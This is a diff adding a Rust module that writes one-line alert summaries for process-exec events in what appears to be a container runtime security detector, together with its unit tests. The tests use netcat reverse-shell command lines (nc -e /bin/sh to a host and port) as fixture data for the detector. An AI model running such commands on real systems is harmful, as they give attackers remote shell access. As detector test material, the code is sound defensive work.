@@ -1,0 +1,160 @@
+//! The one-line summary (<= 300 chars, deterministic): what ran, where (container id or host),
+//! why it matters, and the key evidence. States test activity, failed execs ("attempted"), and
+//! "parent unknown" when lineage is missing and there is a finding.
+
+use super::escape;
+use crate::analysis::detectors::{Ctx, Findings};
+use crate::facts::ExeFlags;
+
+/// Most characters in a summary.
+pub const MAX_SUMMARY: usize = 300;
+
+pub fn summary_line(cx: &Ctx, found: &Findings, category: &str) -> String {
+    let mut s = String::with_capacity(160);
+    if found.test_activity {
+        s.push_str("test activity (event-generator): ");
+    }
+    let failed = cx.facts.res.is_some_and(|r| r != 0);
+    let lead = found.hits.iter().find(|h| h.signal.weight > 0);
+    match lead {
+        Some(h) => {
+            s.push_str(&category.replace('_', " "));
+            s.push_str(": ");
+            if failed {
+                s.push_str("attempted ");
+            }
+            s.push_str(&escape(&h.evidence, 120));
+        }
+        None => {
+            s.push_str(if found.test_activity { "" } else { "benign: " });
+            if failed {
+                s.push_str("attempted ");
+            }
+            s.push_str(&escape(&cx.facts.argv.join(" "), 100));
+        }
+    }
+    let exe = escape(cx.exe_name, 40);
+    if cx.flag(ExeFlags::LOWER_LAYER) {
+        s.push_str(&format!(" using {exe} shipped in the image"));
+    } else if cx.flag(ExeFlags::UPPER_LAYER) {
+        s.push_str(&format!(
+            " using {exe} added after the container started (drift)"
+        ));
+    } else if cx.flag(ExeFlags::FROM_MEMFD) {
+        s.push_str(" run from memory (memfd)");
+    }
+    match cx.facts.uid {
+        Some(0) => s.push_str(", as root"),
+        Some(u) => s.push_str(&format!(", as uid {u}")),
+        None => {}
+    }
+    match &cx.facts.container {
+        Some(c) => s.push_str(&format!(" in container {}", escape(&c.short_id, 16))),
+        None if cx.facts.cgroups_present => s.push_str(" on the host"),
+        None => {}
+    }
+    match cx.lineage.parent() {
+        Some(p) => s.push_str(&format!(" (parent {})", escape(&p.comm, 32))),
+        None if !cx.lineage.known && lead.is_some() => s.push_str(" (parent unknown)"),
+        None => {}
+    }
+    if found.notes.iter().any(|n| n.contains("most likely failed")) {
+        s.push_str("; netcat-openbsd has no -e, so it likely failed");
+    }
+    if failed {
+        s.push_str(&format!(
+            "; exec failed (res={})",
+            cx.facts.res.unwrap_or(0)
+        ));
+    }
+    if s.chars().count() > MAX_SUMMARY {
+        let cut: String = s.chars().take(MAX_SUMMARY - 1).collect();
+        s = format!("{cut}…");
+    }
+    s
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::analysis::{analyze, Lineage};
+    use crate::facts::{ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};
+
+    fn seed() -> ExecFacts {
+        ExecFacts {
+            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
+                .iter()
+                .map(|s| s.to_string())
+                .collect(),
+            exe_path: Some("/usr/bin/nc.openbsd".into()),
+            comm: Some("nc".into()),
+            uid: Some(0),
+            res: Some(0),
+            exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
+            container: Some(ContainerInfo {
+                runtime: ContainerRuntime::Docker,
+                short_id: "1d45a96b1daa".into(),
+            }),
+            cgroups_present: true,
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn seed_alert_summary_reads_it_correctly() {
+        let v = analyze(&seed(), &Lineage::from_comms(["event-generator"]));
+        let s = &v.summary;
+        assert!(
+            s.starts_with(
+                "test activity (event-generator): reverse shell: nc -e /bin/sh to example.com:22"
+            ),
+            "{s}"
+        );
+        assert!(s.contains("shipped in the image"), "{s}");
+        assert!(
+            s.contains("as root in container 1d45a96b1daa (parent event-generator)"),
+            "{s}"
+        );
+        assert!(s.contains("likely failed"), "{s}");
+        assert!(s.chars().count() <= 300);
+    }
+
+    #[test]
+    fn real_reverse_shell_and_unknown_parent() {
+        let mut f = seed();
+        f.argv = ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
+        f.exe_path = Some("/bin/nc.traditional".into());
+        let v = analyze(&f, &Lineage::default());
+        assert_eq!(
+            v.summary,
+            "reverse shell: nc -e /bin/sh to 10.1.2.3:4444 using nc.traditional shipped in the image, as root in container 1d45a96b1daa (parent unknown)"
+        );
+    }
+
+    #[test]
+    fn failed_exec_is_attempted_and_text_is_escaped() {
+        let mut f = seed();
+        f.res = Some(-2);
+        f.argv[3] = "evil\x1b[2J\nhost".into();
+        let v = analyze(&f, &Lineage::from_comms(["sh"]));
+        assert!(v.summary.contains("attempted nc -e"), "{}", v.summary);
+        assert!(v.summary.contains("exec failed (res=-2)"));
+        assert!(!v.summary.contains('\x1b') && !v.summary.contains('\n'));
+    }
+
+    #[test]
+    fn summary_is_bounded() {
+        let mut f = seed();
+        f.argv = vec![
+            "nc".into(),
+            "-e".into(),
+            "/bin/sh".into(),
+            "h".repeat(5000),
+            "1".into(),
+        ];
+        let v = analyze(&f, &Lineage::from_comms(["x".repeat(1000)]));
+        assert!(v.summary.chars().count() <= 300, "{}", v.summary.len());
+    }
+}
